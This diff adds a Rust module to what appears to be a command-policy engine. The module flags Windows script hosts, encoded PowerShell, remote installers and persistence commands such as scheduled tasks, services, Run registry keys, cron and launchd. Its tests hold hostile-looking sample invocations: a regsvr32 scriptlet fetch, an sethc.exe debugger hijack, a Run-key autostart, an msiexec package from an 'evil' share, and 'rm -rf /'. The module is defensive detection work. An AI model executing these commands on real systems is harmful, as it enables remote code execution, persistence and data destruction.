@@ -1,0 +1,301 @@
+//! Programs that launch code the engine cannot read, and commands that register a
+//! program to run later. Both **ask** whatever the risk tolerance, like a shell fed
+//! from a pipe (`… | bash`) or a write to `~/.bashrc`: the command line says
+//! nothing about what will run.
+//!
+//! - [`unread_code`]: Windows' script and DLL hosts (`mshta`, `regsvr32`,
+//!   `rundll32`), shells given a command string in a language other than bash
+//!   (`cmd /c`, `powershell -Command`, `forfiles /c`, `wmic … call create`, `wsl
+//!   CMD`), installers of a package named by URL (`msiexec /i https://…`), and
+//!   BITS' notify command.
+//! - [`autostart`]: scheduled tasks, services, autorun registry keys, cron tables,
+//!   launchd jobs.
+//!
+//! Windows programs take options with `/` or `-` in any case; names come in
+//! lower case without `.exe` ([`super::wrappers::command_name`]).
+
+/// Why `name args…` runs code the engine cannot read, or `None`.
+pub fn unread_code(name: &str, args: &[&str]) -> Option<String> {
+    let lower: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
+    let option = |o: &str| lower.iter().any(|a| is_option(a, o));
+    match name {
+        "mshta" => Some(
+            "`mshta` runs an HTML application's script (often fetched from the network), which the policy engine cannot read".into(),
+        ),
+        "regsvr32" => Some(
+            "`regsvr32` runs a DLL's registration code (`/i:URL` fetches a scriptlet), which the policy engine cannot read".into(),
+        ),
+        "rundll32" => Some(
+            "`rundll32` runs a function of a DLL (or inline script), which the policy engine cannot read".into(),
+        ),
+        "cmd" if ["c", "k", "r"].iter().any(|o| option(o)) => Some(
+            "`cmd` runs a command line in cmd.exe's language, which the policy engine does not analyse".into(),
+        ),
+        "forfiles" if option("c") => Some(
+            "`forfiles /c` runs a command line in cmd.exe's language for each file, which the policy engine does not analyse".into(),
+        ),
+        "wmic" if lower.iter().any(|a| a == "call") && lower.iter().any(|a| a == "create") => {
+            Some("`wmic … call create` starts a program the policy engine cannot read".into())
+        }
+        "powershell" | "pwsh" if powershell_runs_a_string(name, &lower) => Some(format!(
+            "`{name}` runs a command string in PowerShell's language, which is not analysed from a bash line"
+        )),
+        "wsl" if wsl_runs_a_command(&lower) => Some(
+            "`wsl` runs a command inside a Linux distribution, which the policy engine does not analyse".into(),
+        ),
+        "msiexec"
+            if lower.iter().any(|a| {
+                let value = a.split_once([':', '=']).map_or(a.as_str(), |(_, v)| v);
+                is_remote(a) || is_remote(value)
+            }) =>
+        {
+            Some("`msiexec` installs a package fetched from the network, which the policy engine cannot read".into())
+        }
+        "bitsadmin" if option("setnotifycmdline") => Some(
+            "`bitsadmin /setnotifycmdline` makes BITS run a program later, which the policy engine cannot read".into(),
+        ),
+        _ => None,
+    }
+}
+
+/// Why `name args…` makes a program run later (at logon, on a schedule, as a
+/// service), or `None`.
+pub fn autostart(name: &str, args: &[&str]) -> Option<String> {
+    let lower: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
+    let option = |o: &str| lower.iter().any(|a| is_option(a, o));
+    let operand = |i: usize| lower.iter().filter(|a| !a.starts_with('-')).nth(i);
+    let why = match name {
+        "schtasks" if option("create") || option("change") => {
+            "`schtasks` creates or changes a scheduled task"
+        }
+        "at" if !args.is_empty() && !option("l") => "`at` schedules a command",
+        "sc" if matches!(operand(0).map(String::as_str), Some("create" | "config"))
+            || matches!(operand(1).map(String::as_str), Some("create" | "config")) =>
+        {
+            "`sc` creates or reconfigures a service"
+        }
+        "reg" => match operand(0).map(String::as_str) {
+            Some("import" | "restore" | "load") => {
+                "`reg` loads registry settings from a file, which the policy engine does not read"
+            }
+            Some("add" | "copy") if is_autorun_key(&lower.join(" ")) => {
+                "`reg` writes a registry key that starts programs"
+            }
+            _ => return None,
+        },
+        // `crontab FILE`, `crontab -` and a bare `crontab` (POSIX: standard input)
+        // replace the table; `-e` edits it. `-l` lists, `-r` removes.
+        "crontab" if !lower.iter().any(|a| a == "-l" || a == "-r") => {
+            "`crontab` installs a cron table"
+        }
+        "launchctl"
+            if matches!(
+                operand(0).map(String::as_str),
+                Some("load" | "bootstrap" | "submit" | "enable")
+            ) =>
+        {
+            "`launchctl` loads or enables a launchd job"
+        }
+        _ => return None,
+    };
+    Some(format!(
+        "{why}: programs run later, in another context, and the command line does not say what they do"
+    ))
+}
+
+/// `/c`, `-c`, `/C` (already lower case) is option `o`; `/create` too for "create".
+fn is_option(arg: &str, o: &str) -> bool {
+    arg.strip_prefix(['/', '-'])
+        .is_some_and(|rest| rest == o || rest.strip_prefix(o).is_some_and(|r| r.starts_with(':')))
+}
+
+fn is_remote(a: &str) -> bool {
+    a.starts_with("http://")
+        || a.starts_with("https://")
+        || a.starts_with("\\\\")
+        || a.starts_with("//")
+}
+
+/// PowerShell accepts any unambiguous prefix of a parameter (`-c`, `-com`,
+/// `-Command`, `-e`, `-enc`, `-EncodedCommand`), and `powershell.exe` reads a bare
+/// first operand as `-Command`; `pwsh` reads it as `-File`.
+fn powershell_runs_a_string(name: &str, lower: &[String]) -> bool {
+    let mut i = 0;
+    while i < lower.len() {
+        let a = lower[i].as_str();
+        let Some(p) = a.strip_prefix(['-', '/']) else {
+            // The first operand: a command (powershell) or a script file (pwsh).
+            return name == "powershell" && !a.ends_with(".ps1");
+        };
+        if p.is_empty() {
+            return true; // `-`: commands from standard input
+        }
+        if "command".starts_with(p) || "encodedcommand".starts_with(p) || p == "ec" {
+            return true;
+        }
+        if "file".starts_with(p) {
+            return false;
+        }
+        // Parameters that take a value.
+        let takes_value = [
+            "executionpolicy",
+            "ex",
+            "ep",
+            "workingdirectory",
+            "wd",
+            "inputformat",
+            "outputformat",
+            "windowstyle",
+            "configurationname",
+            "settingsfile",
+            "version",
+            "psconsolefile",
+            "custompipename",
+        ]
+        .iter()
+        .any(|v| (v.starts_with(p) && p.len() >= 2) || *v == p);
+        i += if takes_value { 2 } else { 1 };
+    }
+    false
+}
+
+/// `wsl CMD`, `wsl -e CMD`, `wsl --exec CMD`, `wsl -- CMD`, `wsl -d X CMD`: a
+/// command runs in Linux. `--list`, `--status`, `--shutdown`, … do not.
+fn wsl_runs_a_command(lower: &[String]) -> bool {
+    let mut i = 0;
+    while i < lower.len() {
+        match lower[i].as_str() {
+            "-e" | "--exec" | "--" => return true,
+            "-d" | "--distribution" | "-u" | "--user" | "--cd" => i += 2,
+            a if a.starts_with('-') => return false,
+            _ => return true,
+        }
+    }
+    false
+}
+
+/// Registry keys whose values start programs: the Run keys, Winlogon, Image File
+/// Execution Options (debuggers), services, COM servers, and the shell folders
+/// (where Startup points). Bash takes unquoted backslashes away
+/// (`HKCU\Software\…\Run` arrives as `HKCUSoftware…Run`), so the key is compared
+/// with its separators removed.
+fn is_autorun_key(arg: &str) -> bool {
+    let flat: String = arg
+        .chars()
+        .filter(|c| !matches!(c, '\\' | '/' | ' '))
+        .collect();
+    [
+        "currentversionrun",
+        "currentversionpoliciesexplorerrun",
+        "winlogon",
+        "imagefileexecutionoptions",
+        "silentprocessexit",
+        "currentcontrolsetservices",
+        "inprocserver32",
+        "localserver32",
+        "shellfolders",
+        "appinit_dlls",
+        "activesetupinstalledcomponents",
+        "sessionmanager",
+        "environment",
+    ]
+    .iter()
+    .any(|k| flat.contains(k))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn words(s: &str) -> Vec<&str> {
+        s.split_whitespace().collect()
+    }
+
+    #[test]
+    fn code_launchers_are_named() {
+        for (name, args) in [
+            ("mshta", "http://x.io/a.hta"),
+            ("mshta", "vbscript:Execute(\"x\")"),
+            ("regsvr32", "/s /n /u /i:http://x.io/a.sct scrobj.dll"),
+            ("rundll32", "javascript:\"\\..\\mshtml,RunHTMLApplication\""),
+            ("cmd", "/c del x"),
+            ("cmd", "/C del x"),
+            ("forfiles", "/p c:\\ /m *.txt /c \"cmd /c del @file\""),
+            ("wmic", "process call create calc"),
+            ("powershell", "-c Remove-Item x"),
+            ("powershell", "-NoProfile -EncodedCommand SQBFAFgA"),
+            ("powershell", "Remove-Item x"),
+            ("powershell", "-ExecutionPolicy Bypass -Com iex"),
+            ("pwsh", "-"),
+            ("wsl", "rm -rf /"),
+            ("wsl", "-d Ubuntu -e rm -rf /"),
+            ("msiexec", "/i https://x.io/a.msi /qn"),
+            ("msiexec", "/package=\\\\evil\\share\\a.msi"),
+            ("bitsadmin", "/SetNotifyCmdLine job calc.exe NULL"),
+        ] {
+            assert!(unread_code(name, &words(args)).is_some(), "{name} {args}");
+        }
+        for (name, args) in [
+            ("cmd", ""),
+            ("pwsh", "-File build.ps1"),
+            ("pwsh", "build.ps1"),
+            ("powershell", "-NoProfile -File build.ps1"),
+            ("powershell", "-Version"),
+            ("wsl", "--list --verbose"),
+            ("wsl", "--status"),
+            ("msiexec", "/i C:\\pkgs\\a.msi /qn"),
+            ("bitsadmin", "/list"),
+            ("wmic", "process list brief"),
+            ("git", "status"),
+        ] {
+            assert!(unread_code(name, &words(args)).is_none(), "{name} {args}");
+        }
+    }
+
+    #[test]
+    fn autostart_registrations_are_named() {
+        for (name, args) in [
+            ("schtasks", "/create /tn x /tr calc.exe /sc onlogon"),
+            ("schtasks", "/Change /TN x /TR evil.exe"),
+            ("at", "now + 1 minute"),
+            ("sc", "create evil binPath= c:\\x.exe"),
+            ("sc", "\\\\host config svc binPath= c:\\x.exe"),
+            (
+                "reg",
+                "add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d calc.exe",
+            ),
+            (
+                "reg",
+                "ADD HKCUSoftwareMicrosoftWindowsCurrentVersionRunOnce /v x /d calc",
+            ),
+            (
+                "reg",
+                "add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\" /v Debugger /d cmd.exe",
+            ),
+            ("reg", "import evil.reg"),
+            ("crontab", "jobs.txt"),
+            ("crontab", "-u root jobs.txt"),
+            ("crontab", "-"),
+            ("crontab", "-e"),
+            ("launchctl", "load ~/Library/LaunchAgents/x.plist"),
+            ("launchctl", "bootstrap gui/501 x.plist"),
+        ] {
+            assert!(autostart(name, &words(args)).is_some(), "{name} {args}");
+        }
+        for (name, args) in [
+            ("schtasks", "/query"),
+            ("at", "-l"),
+            ("sc", "query wuauserv"),
+            (
+                "reg",
+                "query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+            ),
+            ("reg", "add HKCU\\Software\\Acme /v x /d 1"),
+            ("crontab", "-l"),
+            ("crontab", "-u dev -l"),
+            ("launchctl", "list"),
+        ] {
+            assert!(autostart(name, &words(args)).is_none(), "{name} {args}");
+        }
+    }
+}
